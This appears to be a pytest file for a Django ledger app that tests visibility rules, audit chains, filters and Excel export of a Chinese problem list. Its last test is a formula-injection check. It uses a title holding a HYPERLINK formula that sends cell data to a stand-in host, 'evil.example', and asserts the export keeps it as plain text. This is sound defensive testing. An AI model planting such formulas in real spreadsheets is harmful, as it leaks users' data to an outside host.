"""问题清单 as a ledger: who sees which entries, the chain of one entry, and the Excel export."""
import io
import os
import re
from urllib.parse import unquote

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from qingshan.audit.models import AuditEvent
from qingshan.ledgers.models import ExportJob
from qingshan.ledgers.testing import export_response
from qingshan.problems import services as problem_services
from qingshan.problems.choices import State
from qingshan.problems.testing.flows import drive_to, new_problem
from qingshan.problems.testing.world import WORLD_NOW, png

pytestmark = pytest.mark.django_db

LEDGER = reverse("ledgers:ledger", args=["problems"])


@pytest.fixture(autouse=True)
def _fixed_today():
    # Deadlines are counted in working days; a fixed date keeps them inside years with a holiday calendar.
    with time_machine.travel(WORLD_NOW, tick=True):
        yield


def page_numbers(response) -> list[str]:
    return re.findall(r'<tr data-pk="\d+">\s*<td><a href="[^"]+">([^<]+)</a>', response.content.decode())


def workbook_rows(response):
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True).active
    return list(sheet.iter_rows(values_only=True))


def test_index_shows_the_ledgers_as_tabs(client, world):
    client.force_login(world.officer)
    response = client.get(reverse("ledgers:index"))
    assert response.status_code == 200
    tabs = re.findall(r'<a class="nav-link[^"]*"[^>]*href="/ledgers/[a-z]+/">([^<]+)</a>', response.content.decode())
    assert "问题清单" in tabs


def test_a_unit_sees_only_the_problems_addressed_to_it(client, world):
    mine = drive_to(world, State.SIGNED, lead=world.eco)
    theirs = drive_to(world, State.SIGNED, lead=world.lvshui_housing, handler=world.housing_handler,
                      region=world.lvshui)
    undispatched = new_problem(world)
    client.force_login(world.eco_handler)
    assert page_numbers(client.get(LEDGER)) == [mine.number]
    client.force_login(world.officer)
    assert set(page_numbers(client.get(LEDGER))) == {mine.number, theirs.number, undispatched.number}
    client.force_login(world.eco_handler)
    assert client.get(reverse("ledgers:entry", args=["problems", theirs.pk])).status_code == 404


def test_open_closed_counts_and_filters(client, world):
    closed = drive_to(world, State.CLOSED)
    open_one = drive_to(world, State.IN_PROGRESS)
    client.force_login(world.officer)
    response = client.get(LEDGER)
    assert re.search(r'未销账 <span id="count-open">1</span> 条，已销账 <span id="count-closed">1</span>',
                     response.content.decode())
    assert page_numbers(client.get(LEDGER, {"status": "closed"})) == [closed.number]
    assert page_numbers(client.get(LEDGER, {"status": "open"})) == [open_one.number]
    assert page_numbers(client.get(LEDGER, {"state": "in_progress"})) == [open_one.number]
    assert page_numbers(client.get(LEDGER, {"unit": world.water.pk})) == []
    assert len(page_numbers(client.get(LEDGER, {"period_from": "2026-03-02", "period_to": "2026-03-02"}))) == 2
    assert page_numbers(client.get(LEDGER, {"period_from": "2026-03-03"})) == []


def test_reversed_period_is_refused_in_chinese_and_lists_nothing(client, world):
    drive_to(world, State.SIGNED)
    client.force_login(world.officer)
    response = client.get(LEDGER, {"period_from": "2026-03-05", "period_to": "2026-03-01"})
    assert "建账日期起不能晚于建账日期止。" in response.content.decode()
    assert page_numbers(response) == []


def test_each_row_shows_opening_checks_and_closing(client, world):
    problem = drive_to(world, State.CLOSED)
    client.force_login(world.officer)
    html = client.get(LEDGER).content.decode()
    row = re.search(rf'<tr data-pk="{problem.pk}">(.*?)</tr>', html, re.S).group(1)
    cells = [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td>(.*?)</td>", row, re.S)]
    # 建账 2026-03-02; 查账: 交办, 签收, 开始办理, 申请办结 (the upload is a record, not a check); 销账 the approval.
    assert cells[-6:-1] == ["2026-03-02", "4", cells[-4], "申请办结", "2026-03-02"]
    assert cells[-4].startswith("2026-03-02 ")


def test_open_entry_has_no_closing_date(client, world):
    drive_to(world, State.DISPATCHED)
    client.force_login(world.officer)
    html = client.get(LEDGER).content.decode()
    cells = [re.sub(r"<[^>]+>", "", c).strip() for c in re.findall(r"<td>(.*?)</td>", html, re.S)]
    assert cells[-6:-1] == ["2026-03-02", "1", cells[-4], "交办", "—"]


def test_chain_lists_every_event_in_order_opening_first_closing_last(client, world):
    problem = drive_to(world, State.IN_PROGRESS)
    problem = problem_services.problem_reply(actor=world.eco_handler, problem=problem, text="已整改。", files=[png()])
    problem = problem_services.problem_review(actor=world.officer, problem=problem, decision="reject",
                                              comment="佐证不足，重新整改", internal=True)
    problem = problem_services.problem_reply(actor=world.eco_handler, problem=problem, text="已补充佐证。", files=[])
    problem_services.problem_review(actor=world.officer, problem=problem, decision="approve")
    expected = list(AuditEvent.objects.filter(object_type="problems.problem", object_id=problem.pk)
                    .order_by("seq").values_list("action", flat=True))

    client.force_login(world.officer)
    html = client.get(reverse("ledgers:entry", args=["problems", problem.pk])).content.decode()
    kinds = re.findall(r'<tr data-kind="([^"]*)">', html)
    actions = re.findall(r'<td class="chain-action">([^<]+)</td>', html)
    assert len(actions) == len(expected) == 9
    assert actions == ["登记", "交办", "签收", "开始办理", "申请办结", "发回重办", "备注", "申请办结", "审核通过办结"]
    assert kinds[0] == "建账" and kinds[-1] == "销账" and kinds.count("建账") == kinds.count("销账") == 1
    assert kinds[6] == ""  # the internal comment is shown to the office, as a record, not a check
    assert "李监督" in html and "第一监督检查室" in html and "佐证不足，重新整改" in html

    # The unit sees the same chain without the internal comment.
    client.force_login(world.eco_handler)
    html = client.get(reverse("ledgers:entry", args=["problems", problem.pk])).content.decode()
    assert re.findall(r'<td class="chain-action">([^<]+)</td>', html) == [
        "登记", "交办", "签收", "开始办理", "申请办结", "发回重办", "申请办结", "审核通过办结"]
    assert "佐证不足，重新整改" not in html


def test_ledger_page_query_count_does_not_grow_with_rows(client, world, assert_query_baseline):
    for _ in range(3):
        drive_to(world, State.CLOSED)
    client.force_login(world.officer)
    client.get(LEDGER)  # warm the session and the profile
    with assert_query_baseline("ledger page"):
        small = client.get(LEDGER)
    for _ in range(12):
        drive_to(world, State.SIGNED)
    with assert_query_baseline("ledger page"):
        large = client.get(LEDGER)
    assert len(page_numbers(small)) == 3 and len(page_numbers(large)) == 15


def test_export_has_the_same_rows_as_the_page_with_dates_as_dates(client, world):
    closed = drive_to(world, State.CLOSED)
    drive_to(world, State.SIGNED)
    drive_to(world, State.SIGNED, lead=world.lvshui_housing, handler=world.housing_handler, region=world.lvshui)
    client.force_login(world.eco_handler)
    page = client.get(LEDGER)
    response = export_response(client, "problems")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    rows = workbook_rows(response)
    assert rows[0][0] == "问题清单台账"
    assert rows[1][0].startswith("筛选条件：全部　导出时间：2026-03-02 ") and "导出人：孙经办" in rows[1][0]
    assert rows[2][:3] == ("编号", "标题", "来源") and rows[2][-5:] == (
        "建账日期", "查账次数", "最近查账时间", "最近查账事项", "销账日期")
    assert [r[0] for r in rows[3:]] == page_numbers(page)
    exported = {r[0]: r for r in rows[3:]}[closed.number]
    assert exported[6] == "已办结" and exported[-5].isoformat() == "2026-03-02T00:00:00"
    assert exported[-4] == 4 and exported[-2] == "申请办结"
    assert exported[-1].date().isoformat() == "2026-03-02"


def test_export_follows_the_filters_and_names_them(client, world):
    closed = drive_to(world, State.CLOSED)
    drive_to(world, State.SIGNED)
    client.force_login(world.officer)
    rows = workbook_rows(export_response(client, "problems", {"status": "closed", "unit": world.eco.pk}))
    assert "筛选条件：主办单位：市生态环境局；已销账　" in rows[1][0]
    assert [r[0] for r in rows[3:]] == [closed.number]


def test_export_is_recorded_with_the_exporter(client, world):
    drive_to(world, State.SIGNED)
    client.force_login(world.officer)
    b"".join(export_response(client, "problems", {"status": "open"}).streaming_content)
    event = AuditEvent.objects.get(object_type="ledgers.export", action="export")
    assert (event.actor, event.actor_org, event.action) == (world.officer, world.office, "export")
    done = AuditEvent.objects.get(object_type="ledgers.export", action="export_done")  # and its completion
    assert (done.actor, done.actor_org, done.payload["rows"]) == (world.officer, world.office, 1)
    job = ExportJob.objects.get()
    assert event.payload == {"ledger": "problems", "filters": "未销账", "job": job.pk}
    assert job.rows_written == 1


def test_export_file_name_is_chinese(client, world):
    client.force_login(world.officer)
    response = export_response(client, "problems")
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; filename*=utf-8''")
    assert re.fullmatch(r"问题清单台账_20260302_\d{4}\.xlsx", unquote(disposition.split("''", 1)[1]))
    b"".join(response.streaming_content)


def test_bad_export_filter_is_refused_and_nothing_recorded(client, world):
    client.force_login(world.officer)
    response = export_response(client, "problems", {"period_from": "2026-13-40"})
    assert "筛选条件有误：输入一个有效的日期。" in response.content.decode()
    assert not AuditEvent.objects.filter(object_type="ledgers.export").exists()


def test_export_query_count_is_the_same_for_10_and_200_rows(client, world, assert_query_baseline):
    from qingshan.ledgers import services
    from qingshan.ledgers.specs import ledger

    spec = ledger("problems")
    for _ in range(10):
        new_problem(world)
    world.officer._qingshan_profile = None
    with assert_query_baseline("export") as small:
        ten = services.ledger_export(actor=world.officer, spec=spec)
    for _ in range(190):
        new_problem(world)
    world.officer = type(world.officer).objects.get(pk=world.officer.pk)
    with assert_query_baseline("export") as large:
        two_hundred = services.ledger_export(actor=world.officer, spec=spec)
    for export in (ten, two_hundred):
        os.unlink(export.path)  # the view streams and removes the file; here the test does
    assert (ten.rows, two_hundred.rows) == (10, 200)
    assert len(small.captured_queries) == len(large.captured_queries)


def test_a_user_without_an_organisation_cannot_export(client, world):
    drive_to(world, State.SIGNED)
    client.force_login(world.outsider)
    response = export_response(client, "problems")
    assert "您没有所属单位，不能导出台账。" in response.content.decode()
    assert page_numbers(response) == []
    assert not AuditEvent.objects.filter(object_type="ledgers.export").exists()


def test_a_title_that_looks_like_a_formula_is_exported_as_text(client, world):
    """Formula injection: a user's text starting with "=" must reach Excel as text, never as a live formula."""
    problem = drive_to(world, State.SIGNED, title='=HYPERLINK("http://evil.example/?x="&A1,"点击查看")')
    client.force_login(world.officer)
    response = export_response(client, "problems")
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    [cell] = [row[1] for row in book.active.iter_rows(min_row=4) if row[0].value == problem.number]
    assert (cell.value, cell.data_type) == (problem.title, "s")
